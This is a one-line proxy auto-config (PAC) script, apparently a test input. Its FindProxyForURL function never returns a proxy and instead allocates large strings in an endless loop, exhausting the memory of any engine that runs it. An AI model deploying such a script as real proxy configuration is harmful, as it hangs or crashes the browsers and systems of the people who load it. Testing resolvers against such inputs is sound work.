function FindProxyForURL(url, host) { var a = []; for (;;) a.push({ n: "x".repeat(1e5) + a.length }); }
